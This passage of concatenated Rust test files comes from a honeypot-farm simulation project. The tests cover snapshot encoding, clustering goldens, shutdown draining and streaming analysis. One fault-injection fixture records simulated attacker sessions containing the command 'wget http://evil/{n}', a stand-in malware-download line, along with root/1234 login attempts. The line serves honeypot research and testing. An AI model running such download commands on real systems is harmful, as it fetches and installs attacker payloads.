    assert_eq!(
        delta, 0,
        "steady-state next_chunk must not allocate \
         (got {delta} allocations over {chunks} chunks)"
    );
}

/// The writer's per-chunk hot loop (encode into ping-pong buffers, digest,
/// frame, write) reuses its scratch: re-encoding a snapshot allocates far
/// fewer times than it writes chunks, i.e. nothing on the per-chunk path.
/// The fixed budget covers the per-call setup — section staging buffers,
/// the manifest, the encode scratch growing once each.
#[test]
fn chunked_writer_allocations_do_not_scale_with_chunks() {
    const ROWS_PER_CHUNK: u32 = 64;
    let bytes = chunked_snapshot(ROWS_PER_CHUNK);
    let snap = honeyfarm::farm::Snapshot::read_from(&mut &bytes[..]).expect("reload");
    let n_chunks = (snap.sessions.rows().len() as u32).div_ceil(ROWS_PER_CHUNK);
    assert!(n_chunks > 10, "want a many-chunk snapshot, got {n_chunks}");

    // Warmup writes grow nothing persistent (the writer's scratch is
    // per-call), but they do populate pool/obs lazies outside the window.
    let mut out = Vec::with_capacity(bytes.len() + 1024);
    snap.write_to_chunked(&mut out, ROWS_PER_CHUNK)
        .expect("warmup write");

    out.clear();
    let before = allocation_count();
    snap.write_to_chunked(&mut out, ROWS_PER_CHUNK)
        .expect("steady write");
    let delta = allocation_count() - before;
    assert!(
        delta < n_chunks as u64,
        "writer allocations scale with chunk count: {delta} allocations \
         for {n_chunks} chunks — the per-chunk loop must reuse its scratch"
    );
}
