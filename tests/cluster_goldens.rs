//! Golden-pinned clustering conformance (ISSUE 10, satellite 1): the
//! checked-in `.hfs` scenario corpus replays through the real honeypot
//! stack into a dataset, the clustering pipeline runs over it, and the
//! rendered assignment + summary TSVs must match their goldens
//! byte-for-byte. A second golden pins the summary of a small full-sim
//! fixture, so both the hand-authored corpus and the generative engine
//! are covered.
//!
//! After an intended behavior change, regenerate with:
//!
//! ```text
//! UPDATE_GOLDENS=1 cargo test --release --test cluster_goldens
//! ```

use std::path::PathBuf;

use honeyfarm::cluster::{assignments_tsv, summary_tsv, ClusterRun, KMeansConfig};
use honeyfarm::geo::{World, WorldConfig};
use honeyfarm::prelude::*;
use honeyfarm::testkit::{assert_golden, Scenario};

fn scenario_paths() -> Vec<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/scenarios");
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("tests/scenarios exists")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
        .collect();
    paths.sort();
    paths
}

fn golden(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(format!("tests/goldens/{name}"))
}

/// Replay the whole scenario corpus into one dataset. Records are sorted
/// by start time before ingest so the store is day-ordered (the same
/// contract the simulation runner guarantees).
fn corpus_dataset() -> Dataset {
    let mut records: Vec<SessionRecord> = scenario_paths()
        .into_iter()
        .map(|p| {
            Scenario::load(&p)
                .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
                .replay()
        })
        .collect();
    assert!(records.len() >= 6, "expected a non-trivial corpus");
    records.sort_by_key(|r| r.start);
    let world = World::build(1, &WorldConfig::tiny());
    let mut collector = Collector::new(&world, FarmPlan::paper());
    collector.ingest_batch(&records);
    collector.finish()
}

/// The corpus clustering's per-client assignment table, byte-for-byte.
/// Every scenario client appears with its full normalized feature vector,
/// so a drifted feature definition fails here with the exact cell named
/// in the diff.
#[test]
fn corpus_assignments_match_golden() {
    let run = ClusterRun::over(&corpus_dataset(), 1, &KMeansConfig::default());
    assert_golden(
        &golden("cluster_assignments.tsv.golden"),
        &assignments_tsv(&run.features, &run.matrix, &run.output),
    );
}

/// The corpus clustering's summary table (k, silhouette, sweep, and
/// per-cluster centroids), byte-for-byte.
#[test]
fn corpus_summary_matches_golden() {
    let run = ClusterRun::over(&corpus_dataset(), 1, &KMeansConfig::default());
    assert_golden(
        &golden("cluster_summary.tsv.golden"),
        &summary_tsv(&run.output),
    );
}

/// Clustering a small full-simulation fixture pins the generative path:
/// the chosen k, the whole silhouette sweep, and every centroid cell of
/// `SimConfig::test(12)` must not move without a golden update.
#[test]
fn sim_fixture_summary_matches_golden() {
    let out = Simulation::run(SimConfig::test(12));
    assert!(out.dataset.len() > 100, "fixture must be non-trivial");
    let run = ClusterRun::over(&out.dataset, 2, &KMeansConfig::default());
    assert_golden(
        &golden("cluster_sim_summary.tsv.golden"),
        &summary_tsv(&run.output),
    );
}

/// Golden regeneration is only trustworthy if the pipeline is
/// deterministic over the corpus: two fresh end-to-end runs must render
/// identical bytes.
#[test]
fn corpus_clustering_is_deterministic() {
    let render = || {
        let run = ClusterRun::over(&corpus_dataset(), 1, &KMeansConfig::default());
        (
            assignments_tsv(&run.features, &run.matrix, &run.output),
            summary_tsv(&run.output),
        )
    };
    assert_eq!(render(), render(), "corpus clustering must be repeatable");
}
