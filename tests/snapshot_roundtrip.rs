//! Property tests: the hfstore snapshot is a lossless, deterministic
//! encoding of the session store, tag database, and deployment plan —
//! arbitrary ingested batches survive write → load row-for-row and
//! pool-for-pool. Companion to `store_roundtrip.rs` (in-memory) and
//! `snapshot_faults.rs` (corruption handling).

use honeyfarm::farm::{
    DigestPool, FarmPlan, SessionStore, Snapshot, SnapshotMeta, StringPool, TagDb,
};
use honeyfarm::geo::Ip4;
use honeyfarm::hash::Sha256;
use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::CommandRecord;
use honeyfarm::simclock::SimInstant;
use proptest::prelude::*;

fn arb_record() -> impl Strategy<Value = SessionRecord> {
    (
        0u16..221,
        prop::bool::ANY,
        any::<u32>(),
        1u16..u16::MAX,
        0u32..486,
        0u32..86_400,
        0u32..400,
        0u8..3,
        prop::collection::vec(
            ("[a-z]{1,8}", "[ -~&&[^\\\\]]{0,12}", prop::bool::ANY),
            0..4,
        ),
        prop::collection::vec(("[a-z /.-]{1,24}", prop::bool::ANY), 0..5),
        prop::collection::vec("[a-z0-9./:-]{5,30}", 0..3),
        prop::collection::vec(any::<u64>(), 0..4),
    )
        .prop_map(
            |(hp, ssh, ip, port, day, secs, dur, end, logins, cmds, uris, hashes)| {
                let mut uris: Vec<String> =
                    uris.into_iter().map(|u| format!("http://{u}")).collect();
                uris.sort();
                uris.dedup();
                SessionRecord {
                    honeypot: hp,
                    protocol: if ssh { Protocol::Ssh } else { Protocol::Telnet },
                    client_ip: Ip4(ip),
                    client_port: port,
                    start: SimInstant::from_day_and_secs(day, secs),
                    duration_secs: dur,
                    ended_by: match end {
                        0 => EndReason::ClientClose,
                        1 => EndReason::Timeout,
                        _ => EndReason::AuthLimit,
                    },
                    ssh_client_version: ssh.then(|| "SSH-2.0-Go".to_string()),
                    logins: logins
                        .into_iter()
                        .map(|(u, p, ok)| LoginAttempt {
                            creds: Credentials::new(&u, &p),
                            accepted: ok,
                        })
                        .collect(),
                    commands: cmds
                        .into_iter()
                        .map(|(input, known)| CommandRecord { input, known })
                        .collect(),
                    uris,
                    file_hashes: hashes
                        .iter()
                        .map(|h| Sha256::digest(&h.to_le_bytes()))
                        .collect(),
                    download_hashes: hashes
                        .iter()
                        .filter(|h| *h % 3 == 0)
                        .map(|h| Sha256::digest(&h.to_be_bytes()))
                        .collect(),
                }
            },
        )
}

fn snapshot_of(records: &[SessionRecord]) -> Snapshot {
    let mut store = SessionStore::new();
    let mut tags = TagDb::new();
    for (i, r) in records.iter().enumerate() {
        store.ingest(r, None);
        for h in r.file_hashes.iter().chain(r.download_hashes.iter()) {
            tags.record(*h, if i % 2 == 0 { "mirai" } else { "unknown" }, "H1");
        }
    }
    Snapshot {
        meta: SnapshotMeta {
            seed: 7,
            scale_volume: 0.01,
            scale_hashes: 0.1,
            days: 486,
            n_clients: records.len() as u64,
        },
        plan: FarmPlan::paper(),
        sessions: store,
        tags,
    }
}

fn pool_strings(p: &StringPool) -> Vec<String> {
    p.iter().map(|(_, s)| s.to_string()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Arbitrary batches survive ingest → snapshot write → load with
    /// row-for-row and pool-for-pool equality.
    #[test]
    fn prop_snapshot_roundtrip(records in prop::collection::vec(arb_record(), 1..40)) {
        let snap = snapshot_of(&records);
        let mut bytes = Vec::new();
        snap.write_to(&mut bytes).expect("write snapshot");
        let back = Snapshot::read_from(&mut bytes.as_slice()).expect("load snapshot");

        prop_assert_eq!(back.meta, snap.meta);
        prop_assert_eq!(&back.plan, &snap.plan);

        // Row-for-row.
        prop_assert_eq!(back.sessions.len(), records.len());
        prop_assert_eq!(back.sessions.rows(), snap.sessions.rows());

        // Pool-for-pool, in insertion order.
        prop_assert_eq!(pool_strings(&back.sessions.creds), pool_strings(&snap.sessions.creds));
        prop_assert_eq!(
            pool_strings(&back.sessions.commands),
            pool_strings(&snap.sessions.commands)
        );
        prop_assert_eq!(pool_strings(&back.sessions.uris), pool_strings(&snap.sessions.uris));
        prop_assert_eq!(
            pool_strings(&back.sessions.ssh_versions),
            pool_strings(&snap.sessions.ssh_versions)
        );
        prop_assert_eq!(
            back.sessions.digests.iter().collect::<Vec<_>>(),
            snap.sessions.digests.iter().collect::<Vec<_>>()
        );
        prop_assert_eq!(back.sessions.lists.len(), snap.sessions.lists.len());
        for (id, list) in snap.sessions.lists.iter() {
            prop_assert_eq!(back.sessions.lists.get(id), list);
        }

        // Tag database.
        prop_assert_eq!(back.tags.len(), snap.tags.len());
        for (h, e) in snap.tags.iter() {
            prop_assert_eq!(back.tags.tag(h), Some(e.tag.as_str()));
            prop_assert_eq!(back.tags.campaign(h), Some(e.campaign.as_str()));
        }

        // And the full typed view still reads every field (spot checks).
        for (i, r) in records.iter().enumerate() {
            let v = back.sessions.view(i);
            prop_assert_eq!(v.honeypot(), r.honeypot);
            prop_assert_eq!(v.client_ip(), r.client_ip);
            prop_assert_eq!(v.start(), r.start);
            let logins: Vec<(String, String, bool)> = v
                .logins()
                .map(|(u, p, ok)| (u.to_string(), p.to_string(), ok))
                .collect();
            let want: Vec<(String, String, bool)> = r
                .logins
                .iter()
                .map(|l| (l.creds.username.clone(), l.creds.password.clone(), l.accepted))
                .collect();
            prop_assert_eq!(logins, want);
        }
    }

    /// Writing the same data twice — or a reloaded copy — is byte-identical.
    #[test]
    fn prop_serialization_deterministic(records in prop::collection::vec(arb_record(), 1..20)) {
        let snap = snapshot_of(&records);
        let mut a = Vec::new();
        let mut b = Vec::new();
        snap.write_to(&mut a).expect("write a");
        snap.write_to(&mut b).expect("write b");
        prop_assert_eq!(&a, &b);
        let back = Snapshot::read_from(&mut a.as_slice()).expect("load");
        let mut c = Vec::new();
        back.write_to(&mut c).expect("rewrite");
        prop_assert_eq!(&a, &c);
    }
}

// Out-of-range pool behavior the snapshot loader leans on: `try_get`
// refuses, `get` panics (documented — loaders must validate first).

#[test]
fn string_pool_out_of_range() {
    let mut p = StringPool::new();
    let id = p.intern("root");
    assert_eq!(p.try_get(id), Some("root"));
    assert_eq!(p.try_get(id + 1), None);
    assert_eq!(p.try_get(u32::MAX), None);
}

#[test]
#[should_panic]
fn string_pool_get_panics_out_of_range() {
    let p = StringPool::new();
    let _ = p.get(0);
}

#[test]
fn digest_pool_out_of_range() {
    let mut p = DigestPool::new();
    let h = Sha256::digest(b"x");
    let id = p.intern(h);
    assert_eq!(p.try_get(id), Some(h));
    assert_eq!(p.try_get(id + 1), None);
}

#[test]
#[should_panic]
fn digest_pool_get_panics_out_of_range() {
    let p = DigestPool::new();
    let _ = p.get(3);
}
