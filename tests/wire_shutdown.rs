//! Graceful shutdown under load: with N sessions mid-flight, `shutdown()`
//! must drain every one of them into the collector — zero record loss —
//! and the final snapshot must load cleanly.
//!
//! The accounting oracle is checked twice: against the farm's own
//! [`FarmStats`] and against the process-global `hf-obs` counters the wire
//! layer mirrors into. The obs registry is process-wide, which is why this
//! file holds exactly one `#[test]`: a sibling test in the same binary
//! would race the counter values.

use std::io::Write;
use std::time::{Duration, Instant};

use honeyfarm::prelude::*;
use honeyfarm::wire::{FarmConfig, LiveFarm, Timing};

const SESSIONS: u64 = 48;

#[test]
fn shutdown_mid_load_loses_no_records() {
    honeyfarm::obs::enable();
    let farm = LiveFarm::start(FarmConfig {
        nodes: 3,
        timing: Timing::Virtual,
        wall_timeout_secs: 600,
        per_ip_cap: 1 << 30,
        keep_records: true,
        ..FarmConfig::default()
    })
    .expect("farm");
    let stats = farm.stats();

    // N concurrent clients authenticate and then hold their sessions open;
    // they are all still mid-session when shutdown hits.
    let mut clients = Vec::new();
    for i in 0..SESSIONS {
        let node = farm.nodes()[(i % 3) as usize];
        let addr = if i % 2 == 0 { node.ssh } else { node.telnet };
        clients.push(std::thread::spawn(move || {
            let mut sock = std::net::TcpStream::connect(addr).expect("connect");
            let script: String = if i % 2 == 0 {
                format!(
                    "@hfs client 10.7.{}.{} 4000\nUSER root\nPASS pw{i}\n",
                    i / 256,
                    i % 256
                )
            } else {
                format!(
                    "@hfs client 10.8.{}.{} 4000\r\nroot\r\npw{i}\r\n",
                    i / 256,
                    i % 256
                )
            };
            sock.write_all(script.as_bytes()).expect("script");
            // Hold the session open; the farm's drain closes it.
            let mut buf = Vec::new();
            let _ = sock.set_read_timeout(Some(Duration::from_secs(10)));
            let _ = std::io::Read::read_to_end(&mut sock, &mut buf);
        }));
    }

    // Wait until every session is accepted and authenticated, so the drain
    // really happens mid-load, then pull the plug.
    let deadline = Instant::now() + Duration::from_secs(10);
    while stats.auths_ok() < SESSIONS {
        assert!(Instant::now() < deadline, "clients failed to settle");
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(stats.open_now(), SESSIONS as i64, "all sessions open");
    let out = farm.shutdown();
    for c in clients {
        c.join().expect("client thread");
    }

    // Zero loss, farm-stats view.
    assert_eq!(out.stats.accepted(), SESSIONS);
    assert_eq!(out.stats.ingested(), SESSIONS);
    assert_eq!(out.stats.rejected_ip_cap(), 0);
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.records.len(), SESSIONS as usize);
    assert_eq!(out.dataset.len(), SESSIONS as usize);
    assert_eq!(out.n_clients, SESSIONS, "distinct @hfs client identities");
    assert_eq!(out.stats.open_now(), 0, "every socket closed by drain");

    // Zero loss, obs-counter view (sessions_ingested + sessions_rejected
    // == sessions_driven).
    let manifest = honeyfarm::obs::manifest("wire_shutdown");
    let counter = |name: &str| manifest.counters.get(name).copied().unwrap_or(0);
    assert_eq!(counter("wire.accepted"), SESSIONS);
    assert_eq!(
        counter("wire.ingested") + counter("wire.rejected_ip_cap"),
        counter("wire.accepted"),
        "obs accounting: ingested + rejected == driven"
    );
    assert_eq!(counter("wire.auth_ok"), SESSIONS);

    // The drain's snapshot artifact loads cleanly and carries every session.
    let dir = std::env::temp_dir().join(format!("hf_wire_shutdown_{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("tmp dir");
    let path = dir.join("drain.hfstore");
    out.to_snapshot().write_file(&path).expect("write snapshot");
    let snap = Snapshot::read_file(&path).expect("snapshot loads");
    assert_eq!(snap.sessions.len(), SESSIONS as usize);
    assert_eq!(snap.meta.n_clients, SESSIONS);
    std::fs::remove_dir_all(&dir).ok();
}
