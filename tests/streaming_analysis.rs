//! Streaming-vs-materialized differential suite — the oracle behind the
//! out-of-core analysis path (ISSUE 7 tentpole).
//!
//! Three equivalences, all required to be **bit-for-bit**:
//!
//! * `Simulation::run_fold` (day-windowed fold, rows retired as days
//!   complete) against the materialized `Simulation::run` +
//!   `Aggregates::compute`, across thread counts {1, 2, 8} and scales
//!   {0.001, 0.01} — aggregates, tags, reports, and the claims table.
//! * `FoldOutput::from_snapshot_stream` (chunked snapshot reader feeding
//!   the fold) against materializing the same snapshot.
//! * A proptest that *any* day-aligned partition of the row range folds
//!   and assembles (`Aggregates::partial` + `Aggregates::assemble`) to the
//!   same state as the one-shot pass — the associativity the whole
//!   streaming design rests on.

use std::sync::OnceLock;

use honeyfarm::prelude::*;
use honeyfarm::testkit::{claims, diff_aggregates, diff_datasets, diff_reports, diff_tagdbs};
use proptest::prelude::*;

/// Run one streaming-vs-materialized differential at the given config.
fn assert_fold_matches(scale: f64, days: u32, threads: usize) {
    let config = SimConfig {
        seed: 0x57e4,
        scale: Scale::of(scale),
        window: StudyWindow::first_days(days),
        use_script_cache: false,
        threads: 1,
    };
    let out = Simulation::run(config.clone());
    let agg = Aggregates::compute(&out.dataset);

    let fold = Simulation::run_fold(SimConfig {
        threads,
        ..config.clone()
    });
    let label = format!("fold threads={threads}");

    assert!(
        fold.dataset.sessions.is_empty(),
        "fold mode must retire every row"
    );
    assert_eq!(out.n_clients, fold.n_clients, "{label}: n_clients");
    diff_aggregates("materialized", &agg, &label, &fold.aggregates).assert_identical();
    diff_tagdbs("materialized", &out.tags, &label, &fold.tags).assert_identical();

    // Reports built from the row-free dataset + folded aggregates must be
    // byte-identical to the materialized pipeline's.
    let report_mat = Report::build_with_tags(&out.dataset, &agg, &out.tags);
    let report_fold = Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
    diff_reports("materialized", &report_mat, &label, &report_fold).assert_identical();

    // And the claims context must derive identical headline metrics from
    // both paths. (The full claim-table evaluation indexes absolute paper
    // days, so it only runs on full-window fixtures — `hfarm verify
    // --claims` covers that; here we pin the derived `Claims` and the
    // context's tables, which feed every measure closure.)
    let ctx_mat = claims::ClaimCtx::new(&out);
    let ctx_fold = claims::ClaimCtx::from_parts(&fold.dataset, &fold.tags, fold.aggregates);
    assert_eq!(
        ctx_mat.claims.to_json(),
        ctx_fold.claims.to_json(),
        "{label}: derived Claims diverged"
    );
}

#[test]
fn fold_matches_materialized_scale_0_001() {
    for threads in [1usize, 2, 8] {
        assert_fold_matches(0.001, 20, threads);
    }
}

#[test]
fn fold_matches_materialized_scale_0_01() {
    for threads in [1usize, 2, 8] {
        assert_fold_matches(0.01, 8, threads);
    }
}

/// Streaming a snapshot chunk-by-chunk into the fold must equal
/// materializing the whole snapshot and computing over it.
#[test]
fn snapshot_stream_fold_matches_materialized_load() {
    let config = SimConfig::test(10);
    let out = Simulation::run(config.clone());
    let mut bytes = Vec::new();
    out.to_snapshot(&config)
        .write_to(&mut bytes)
        .expect("write snapshot");

    let materialized = SimOutput::from_snapshot(
        Snapshot::read_from(&mut bytes.as_slice()).expect("materialized load"),
    );
    let agg = Aggregates::compute(&materialized.dataset);

    let fold = FoldOutput::from_snapshot_stream(bytes.as_slice()).expect("streaming load");
    assert_eq!(materialized.n_clients, fold.n_clients);
    diff_aggregates("materialized", &agg, "streamed", &fold.aggregates).assert_identical();
    diff_tagdbs("materialized", &materialized.tags, "streamed", &fold.tags).assert_identical();

    // The artifact store must replay identically from the chunked stream
    // (first_seen/last_seen/occurrences all ingest-order-sensitive), which
    // diff_datasets checks alongside pools and plan; the streamed dataset
    // legitimately has no rows, so compare everything else on rowless
    // copies of both.
    let mut rowless = materialized;
    rowless.dataset.sessions.retire_rows();
    diff_datasets("materialized", &rowless.dataset, "streamed", &fold.dataset).assert_identical();

    let report_mat = Report::build_with_tags(&rowless.dataset, &agg, &rowless.tags);
    let report_fold = Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
    diff_reports("materialized", &report_mat, "streamed", &report_fold).assert_identical();
}

/// Shared fixture for the partition property: one materialized run plus
/// its day-boundary row indices.
fn partition_fixture() -> &'static (SimOutput, Aggregates, Vec<usize>, u32) {
    static FIXTURE: OnceLock<(SimOutput, Aggregates, Vec<usize>, u32)> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let out = Simulation::run(SimConfig::test(12));
        let agg = Aggregates::compute(&out.dataset);
        let store = &out.dataset.sessions;
        let n_days = store
            .iter()
            .map(|v| v.day())
            .max()
            .map(|d| d + 1)
            .unwrap_or(1);
        // Row indices where a new day starts — the only legal cut points.
        let mut boundaries = Vec::new();
        let mut last_day = u32::MAX;
        for i in 0..store.len() {
            let day = store.view(i).day();
            if day != last_day {
                boundaries.push(i);
                last_day = day;
            }
        }
        assert!(boundaries.len() > 4, "fixture needs several days");
        (out, agg, boundaries, n_days)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Any subset of day boundaries partitions the rows into contiguous
    /// day-aligned shards; folding each shard with `Aggregates::partial`
    /// and combining with `Aggregates::assemble` is bit-identical to the
    /// one-shot materialized pass.
    #[test]
    fn day_window_partitions_assemble_identically(cut_mask in prop::collection::vec(any::<bool>(), 16..64)) {
        let (out, agg, boundaries, n_days) = partition_fixture();
        let store = &out.dataset.sessions;

        // Cut points: always row 0, plus any selected interior boundary.
        let mut cuts = vec![0usize];
        for (i, &b) in boundaries.iter().enumerate().skip(1) {
            if *cut_mask.get(i % cut_mask.len()).unwrap_or(&false) {
                cuts.push(b);
            }
        }
        cuts.push(store.len());

        let parts: Vec<_> = cuts
            .windows(2)
            .map(|w| Aggregates::partial(&out.dataset, w[0]..w[1], *n_days))
            .collect();
        let assembled = Aggregates::assemble(*n_days, out.dataset.plan.len(), parts);
        diff_aggregates("one-shot", agg, "partitioned", &assembled).assert_identical();
    }
}
