//! Fault-injection suite for the hfstore loader: flip bytes, truncate
//! sections, plant dangling ids — every corruption must surface as the
//! right typed [`SnapshotError`], never a panic or a silent mis-read.

use honeyfarm::farm::snapshot::{FORMAT_VERSION, MAGIC, SECTIONS};
use honeyfarm::farm::{FarmPlan, SessionStore, Snapshot, SnapshotError, SnapshotMeta, TagDb};
use honeyfarm::geo::Ip4;
use honeyfarm::hash::Sha256;
use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::CommandRecord;
use honeyfarm::simclock::SimInstant;

/// Header size: magic + version + section count.
const HEADER: usize = 8 + 4 + 4;
/// Per-section frame: id (u32) + len (u64) + sha-256 (32 bytes).
const FRAME: usize = 4 + 8 + 32;
/// Rows-section prologue: n_rows (u64) + rows_per_chunk (u32) + n_chunks (u32).
const ROWS_PROLOGUE: usize = 8 + 4 + 4;
/// Per-chunk header: row count (u32) + chunk-data sha-256.
const CHUNK_HEADER: usize = 4 + 32;
/// Encoded row width.
const ROW: usize = 48;

fn record(n: u64) -> SessionRecord {
    SessionRecord {
        honeypot: (n % 221) as u16,
        protocol: Protocol::Ssh,
        client_ip: Ip4::new(16, 0, n as u8, 1),
        client_port: 40_000,
        start: SimInstant::from_day_and_secs((n % 7) as u32, 60 * n as u32),
        duration_secs: 30,
        ended_by: EndReason::ClientClose,
        ssh_client_version: Some("SSH-2.0-Go".into()),
        logins: vec![LoginAttempt {
            creds: Credentials::new("root", "1234"),
            accepted: true,
        }],
        commands: vec![CommandRecord {
            input: format!("wget http://evil/{n}"),
            known: true,
        }],
        uris: vec![format!("http://evil/{n}")],
        file_hashes: vec![Sha256::digest(&n.to_le_bytes())],
        download_hashes: vec![Sha256::digest(&n.to_be_bytes())],
    }
}

/// A small but fully-populated snapshot serialized to bytes.
fn snapshot_bytes() -> Vec<u8> {
    let mut store = SessionStore::new();
    let mut tags = TagDb::new();
    for n in 0..8 {
        let r = record(n);
        for h in r.file_hashes.iter().chain(r.download_hashes.iter()) {
            tags.record(*h, "mirai", "H1");
        }
        store.ingest(&r, None);
    }
    let snap = Snapshot {
        meta: SnapshotMeta {
            seed: 1,
            scale_volume: 0.001,
            scale_hashes: 0.03,
            days: 7,
            n_clients: 8,
        },
        plan: FarmPlan::paper(),
        sessions: store,
        tags,
    };
    let mut bytes = Vec::new();
    snap.write_to(&mut bytes).expect("write snapshot");
    bytes
}

fn load(bytes: &[u8]) -> Result<Snapshot, SnapshotError> {
    Snapshot::read_from(&mut &bytes[..])
}

/// Walk the section frames, returning `(payload_start, payload_len)` per
/// section in file order.
fn section_spans(bytes: &[u8]) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let mut off = HEADER;
    for _ in SECTIONS {
        let len =
            u64::from_le_bytes(bytes[off + 4..off + 12].try_into().expect("len field")) as usize;
        spans.push((off + FRAME, len));
        off += FRAME + len;
    }
    assert_eq!(off, bytes.len(), "walk must cover the whole file");
    spans
}

/// Re-stamp a section's checksum after deliberately editing its payload
/// (to reach validation layers deeper than the checksum).
fn restamp(bytes: &mut [u8], payload_start: usize, payload_len: usize) {
    let digest = Sha256::digest(&bytes[payload_start..payload_start + payload_len]);
    bytes[payload_start - 32..payload_start].copy_from_slice(&digest.0);
}

/// Walk a rows payload's chunks, returning each chunk's header offset and
/// row count.
fn rows_chunks(bytes: &[u8], start: usize) -> Vec<(usize, usize)> {
    let n_chunks = u32::from_le_bytes(bytes[start + 12..start + 16].try_into().unwrap()) as usize;
    let mut chunks = Vec::with_capacity(n_chunks);
    let mut off = start + ROWS_PROLOGUE;
    for _ in 0..n_chunks {
        let rows = u32::from_le_bytes(bytes[off..off + 4].try_into().unwrap()) as usize;
        chunks.push((off, rows));
        off += CHUNK_HEADER + rows * ROW;
    }
    chunks
}

/// Re-stamp the rows section after deliberately editing chunk data: each
/// chunk's digest covers its row bytes, and the section checksum covers the
/// chunk manifest (prologue ‖ per-chunk headers) — both must be recomputed
/// to reach the semantic row validators underneath.
fn restamp_rows(bytes: &mut [u8], start: usize, len: usize) {
    for (off, rows) in rows_chunks(bytes, start) {
        let data = off + CHUNK_HEADER;
        let digest = Sha256::digest(&bytes[data..data + rows * ROW]);
        bytes[off + 4..off + CHUNK_HEADER].copy_from_slice(&digest.0);
    }
    let mut manifest = bytes[start..start + ROWS_PROLOGUE].to_vec();
    let mut end = start + ROWS_PROLOGUE;
    for (off, rows) in rows_chunks(bytes, start) {
        manifest.extend_from_slice(&bytes[off..off + CHUNK_HEADER]);
        end = off + CHUNK_HEADER + rows * ROW;
    }
    assert_eq!(end, start + len, "chunk walk must cover the payload");
    let digest = Sha256::digest(&manifest);
    bytes[start - 32..start].copy_from_slice(&digest.0);
}

/// Rebuild the rows section with a different `rows_per_chunk`, re-splitting
/// the same row data into more chunks (the writer always uses the default;
/// the reader must honor whatever a valid file declares).
fn rechunk_rows(bytes: &[u8], rows_per_chunk: usize) -> Vec<u8> {
    let spans = section_spans(bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    let n_rows = u64::from_le_bytes(bytes[start..start + 8].try_into().unwrap()) as usize;
    let mut data = Vec::with_capacity(n_rows * ROW);
    for (off, rows) in rows_chunks(bytes, start) {
        data.extend_from_slice(&bytes[off + CHUNK_HEADER..off + CHUNK_HEADER + rows * ROW]);
    }
    assert_eq!(data.len(), n_rows * ROW);

    let n_chunks = n_rows.div_ceil(rows_per_chunk);
    let mut payload = Vec::new();
    payload.extend_from_slice(&(n_rows as u64).to_le_bytes());
    payload.extend_from_slice(&(rows_per_chunk as u32).to_le_bytes());
    payload.extend_from_slice(&(n_chunks as u32).to_le_bytes());
    for chunk in data.chunks(rows_per_chunk * ROW) {
        payload.extend_from_slice(&((chunk.len() / ROW) as u32).to_le_bytes());
        payload.extend_from_slice(&Sha256::digest(chunk).0);
        payload.extend_from_slice(chunk);
    }

    let mut out = bytes[..start - FRAME].to_vec();
    out.extend_from_slice(&bytes[start - FRAME..start - FRAME + 4]); // section id
    out.extend_from_slice(&(payload.len() as u64).to_le_bytes());
    out.extend_from_slice(&[0u8; 32]); // checksum stamped below
    let new_start = out.len();
    out.extend_from_slice(&payload);
    out.extend_from_slice(&bytes[start + len..]);
    restamp_rows(&mut out, new_start, payload.len());
    out
}

#[test]
fn pristine_snapshot_loads() {
    let bytes = snapshot_bytes();
    let snap = load(&bytes).expect("pristine snapshot must load");
    assert_eq!(snap.sessions.len(), 8);
    // 8 file + 8 download hashes, but n = 0 encodes identically in LE and
    // BE so its pair collapses to one digest.
    assert_eq!(snap.tags.len(), 15);
}

#[test]
fn bad_magic_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[0] ^= 0xff;
    match load(&bytes) {
        Err(SnapshotError::BadMagic { found }) => assert_ne!(found, MAGIC),
        other => panic!("expected BadMagic, got {other:?}"),
    }
}

#[test]
fn version_mismatch_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[8..12].copy_from_slice(&99u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::UnsupportedVersion { found, supported }) => {
            assert_eq!(found, 99);
            assert_eq!(supported, FORMAT_VERSION);
        }
        other => panic!("expected UnsupportedVersion, got {other:?}"),
    }
}

#[test]
fn flipped_byte_in_every_section_is_caught_by_its_checksum() {
    let pristine = snapshot_bytes();
    let spans = section_spans(&pristine);
    assert_eq!(spans.len(), SECTIONS.len());
    for (i, &(start, len)) in spans.iter().enumerate() {
        let (_, name) = SECTIONS[i];
        assert!(len > 0, "section {name} must have a payload to corrupt");
        let mut bytes = pristine.clone();
        bytes[start + len / 2] ^= 0x40;
        match load(&bytes) {
            // The rows payload is chunked; a mid-payload flip lands in
            // chunk data and is blamed on that chunk, not the section.
            Err(SnapshotError::ChunkChecksumMismatch { section, .. }) if name == "rows" => {
                assert_eq!(section, "rows");
            }
            Err(SnapshotError::ChecksumMismatch { section }) if name != "rows" => {
                assert_eq!(section, name, "flip in {name} blamed on {section}");
            }
            other => panic!("flip in {name}: expected a checksum mismatch, got {other:?}"),
        }
    }
}

#[test]
fn truncation_anywhere_is_a_typed_error() {
    let pristine = snapshot_bytes();
    // Cut the file at a spread of boundaries: inside the header, inside
    // each section frame, inside each payload, and just before the end.
    let mut cuts = vec![0, 1, HEADER - 1, HEADER, pristine.len() - 1];
    for &(start, len) in &section_spans(&pristine) {
        cuts.push(start - FRAME + 2); // mid section-id
        cuts.push(start - 20); // mid checksum
        cuts.push(start + len / 2); // mid payload
    }
    for cut in cuts {
